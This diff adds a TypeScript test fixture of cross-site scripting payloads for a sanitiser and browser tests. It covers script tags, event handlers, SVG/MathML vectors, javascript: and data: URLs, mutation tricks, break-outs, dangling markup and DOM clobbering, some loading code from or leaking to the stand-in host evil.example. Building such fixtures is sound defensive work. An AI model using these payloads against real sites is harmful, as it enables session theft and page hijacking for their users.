@@ -1,0 +1,182 @@
+// What people with bad intentions write into a field. Each string, if a browser ever took it for more
+// than words, would set `__xss`, leave the site, or change what the page is. One table for the
+// sanitiser, the addresses, the feed, the state of a page, and the browser itself (hostile.desktop.spec.ts).
+
+const CALL = '__xss=1'
+// In JavaScript addresses only: the same call, written so that no filter for words sees it.
+const CODED = '&#95;&#95;&#120;&#115;&#115;=1'
+
+// biome-ignore format: a kind on each line, and a string on each of its lines
+const KINDS: Record<string, string[]> = {
+  'script elements': [
+    `<script>${CALL}</script>`,
+    `<ScRiPt >${CALL}</sCrIpT >`,
+    `<script/x>${CALL}</script/x>`,
+    `<scr<script>ipt>${CALL}</scr</script>ipt>`,
+    `<script src=data:,${CALL}></script>`,
+    `<script src=//evil.example/x.js></script>`,
+    `<script type=module>${CALL}</script>`,
+    `\u0000<script\u0000>${CALL}</script>`,
+    `<<script>${CALL}//<</script>`,
+  ],
+  'event handlers': [
+    `<img src=x onerror=${CALL}>`,
+    `<img/src=x/onerror=${CALL}>`,
+    `<img src=x onerror\n=\n"${CALL}">`,
+    `<img src="x\`onerror=${CALL}//">`,
+    `<body onload=${CALL}>`,
+    `<body onpageshow=${CALL}>`,
+    `<input autofocus onfocus=${CALL}>`,
+    `<details open ontoggle=${CALL}>x</details>`,
+    `<video><source onerror=${CALL}></video>`,
+    `<audio src=x onerror=${CALL}>`,
+    `<p onpointerover=${CALL} onclick=${CALL}>x</p>`,
+    `<b style=animation-name:appear onanimationstart=${CALL}>x</b>`,
+    `<a href=/x onfocus=${CALL} autofocus tabindex=1>x</a>`,
+    `<marquee onstart=${CALL}>x</marquee>`,
+    `<x contenteditable onblur=${CALL} autofocus>x`,
+  ],
+  'svg and math': [
+    `<svg onload=${CALL}>`,
+    `<svg><script>${CALL}</script></svg>`,
+    `<svg><script href=data:,${CALL} /></svg>`,
+    `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
+    `<svg><a xlink:href=javascript:${CALL}><text y=9>x</text></a></svg>`,
+    `<svg><set attributeName=href to=javascript:${CALL}>`,
+    `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}/>#x"/></svg>`,
+    `<svg><foreignObject><iframe onload=${CALL}></foreignObject></svg>`,
+    `<math href=javascript:${CALL}>x</math>`,
+    `<math><maction actiontype=statusline xlink:href=javascript:${CALL}>x</maction></math>`,
+  ],
+  'addresses': [
+    `javascript:${CALL}`,
+    `JaVaScRiPt:${CALL}`,
+    ` javascript:${CALL}`,
+    `java\tscript:${CALL}`,
+    `java\nscript:${CALL}`,
+    `\u0001javascript:${CALL}`,
+    `javascript\u00A0:${CALL}`,
+    `javascript://%0a${CALL}`,
+    `javascript&colon;${CALL}`,
+    `data:text/html,<script>${CALL}</script>`,
+    `data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+`,
+    `vbscript:${CALL}`,
+    `blob:https://evil.example/1`,
+    `//evil.example/${CALL}`,
+    `/\\evil.example`,
+    `/.//evil.example`,
+    `https:evil.example`,
+    `https://coop.example@evil.example/`,
+  ],
+  'links': [
+    `<a href=javascript:${CALL}>x</a>`,
+    `<a href="java&#9;script:${CALL}">x</a>`,
+    `<a href="&#106;&#x61;vascript:${CODED}">x</a>`,
+    `<a href="\u0001javascript:${CALL}">x</a>`,
+    `<a href="javascript&NewLine;:${CALL}">x</a>`,
+    `<a href="data:text/html,<script>${CALL}</script>">x</a>`,
+    `<a href="//evil.example">x</a>`,
+    `<a href="\\\\evil.example">x</a>`,
+    `<a target=_blank ping=//evil.example href="/x">x</a>`,
+    `[x](javascript:${CALL})`,
+  ],
+  'mutations while the page is read': [
+    `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
+    `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
+    `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
+    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
+    `<math><annotation-xml encoding=text/html><style><img src=x onerror=${CALL}></style>`,
+    `<svg><desc><noembed></desc><p title="</noembed><img src=x onerror=${CALL}>">`,
+    `<select><style></select><img src=x onerror=${CALL}></style>`,
+    `<table><a href=javascript:${CALL}><td>x`,
+    `<template><img src=x onerror=${CALL}></template>`,
+    `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
+    `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
+    `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
+    `<plaintext>`,
+  ],
+  'break-outs': [
+    `</title><script>${CALL}</script>`,
+    `</textarea><img src=x onerror=${CALL}>`,
+    `</style><script>${CALL}</script>`,
+    `</noscript><img src=x onerror=${CALL}>`,
+    `</script><script>${CALL}</script>`,
+    `</div></main></body><script>${CALL}</script>`,
+    `"><script>${CALL}</script>`,
+    `'><img src=x onerror=${CALL}>`,
+    `" autofocus onfocus=${CALL} x="`,
+    `' onmouseover=${CALL} x='`,
+    `\` onerror=${CALL} \``,
+    `]]><script>${CALL}</script>`,
+    `--><script>${CALL}</script>`,
+    `?><script>${CALL}</script>`,
+    `</summary></feed><script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`,
+  ],
+  'comments and dangling markup': [
+    `<!--><img src=x onerror=${CALL}>-->`,
+    `<!--`,
+    `<!-- --!><img src=x onerror=${CALL}>`,
+    `<![CDATA[<script>${CALL}</script>]]>`,
+    `<?xml version="1.0"?><?php ${CALL} ?>`,
+    `<!DOCTYPE x [<!ENTITY y "${CALL}">]>&y;`,
+    `<img src='//evil.example/?`,
+    `<a href="//evil.example/?`,
+    `<textarea>`,
+  ],
+  'the page itself': [
+    `<meta http-equiv=refresh content="0;url=//evil.example">`,
+    `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
+    `<base href=//evil.example/>`,
+    `<link rel=stylesheet href=//evil.example/x.css>`,
+    `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
+    `<iframe src=javascript:parent.${CALL}></iframe>`,
+    `<object data=data:text/html,<script>${CALL}</script>></object>`,
+    `<embed src=javascript:${CALL}>`,
+    `<form action=javascript:${CALL}><button>x</button></form>`,
+    `<form action=//evil.example><input type=submit value=x></form>`,
+    `<button formaction=javascript:${CALL} form=search>x</button>`,
+    `<isindex action=javascript:${CALL} type=image>`,
+    `<dialog open>x</dialog><portal src=//evil.example>`,
+  ],
+  'styles': [
+    `<style>*{background:url(//evil.example)}</style>`,
+    `<style>@import '//evil.example/x.css';</style>`,
+    `<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>`,
+    `<div style=width:expression(${CALL})>x</div>`,
+  ],
+  'names that clobber': [
+    `<img name=getElementById><form id=state><input name=textContent></form>`,
+    `<a id=pageConfig></a><a id=pageConfig name=csrf_token href=x:y></a>`,
+    `<p id=root>x</p><p id=boot data-rest=//evil.example/x.js>x</p>`,
+    `<input name=attributes><form><input name=parentNode>`,
+    '__proto__', 'constructor', 'toString', 'hasOwnProperty', '{"__proto__":{"x":1}}',
+  ],
+  'entities, templates and letters': [
+    `&lt;script&gt;${CALL}&lt;/script&gt;`,
+    `&#60;script&#62;${CALL}&#60;/script&#62;`,
+    `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
+    `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
+    `%3Cscript%3E${CALL}%3C/script%3E`,
+    `\uFF1Cscript\uFF1E${CALL}\uFF1C/script\uFF1E`,
+    `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
+    `\u202E>tpircs<${CALL}\u202C`,
+    `<\u0000img src=x onerror=${CALL}>`,
+    `{{constructor.constructor('${CALL}')()}}`,
+    `\${${CALL}}<%= ${CALL} %>#{${CALL}}`,
+    `$&$\`$'$1`,
+    `\u2028\u2029*/;${CALL}//`,
+    `';${CALL};'";${CALL};"`,
+  ],
+}
+
+/** Every string there is, once. */
+export const HOSTILE: readonly string[] = Object.values(KINDS).flat()
+
+/** Ends whatever a string before it may have opened, so that the next begins on open ground. */
+export const OPEN_GROUND =
+  '\'"--></script></style></title></textarea></noscript></template></xmp></svg></math><hr>'
+
+/** As PostgreSQL can hold it: it has no way to write U+0000. */
+export function storable(text: string): string {
+  return text.replaceAll('\u0000', '')
+}
